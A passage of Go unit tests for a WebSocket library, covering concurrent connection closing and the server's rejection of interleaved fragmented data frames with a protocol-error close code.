				errs <- fmt.Errorf("conn %d: final err = %v, want ErrClosed", id, err)
				return
			}
			if server.CloseCode != CloseNormal {
				errs <- fmt.Errorf("conn %d: close code %d", id, server.CloseCode)
			}
		}(i)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// TestServerRejectsInterleavedDataMessage pins the fragment discipline
// on the server read path: a second data frame opened before the first
// message finishes is ErrUnexpectedOpcode (close 1002), not silent
// interleaving.
func TestServerRejectsInterleavedDataMessage(t *testing.T) {
	c1, c2 := net.Pipe()
	defer c1.Close()
	server := newConn(c2, false, 0)
	go func() {
		var stream []byte
		stream = append(stream, maskedFrame(false, OpText, []byte("first"))...)
		stream = append(stream, maskedFrame(true, OpText, []byte("second"))...)
		_, _ = c1.Write(stream)
	}()
	_, _, err := server.ReadMessage()
	if !errors.Is(err, ErrUnexpectedOpcode) {
		t.Fatalf("err = %v, want ErrUnexpectedOpcode", err)
	}
	if code := CloseCodeForError(err); code != CloseProtocolError {
		t.Fatalf("close code = %d, want %d", code, CloseProtocolError)
	}
}
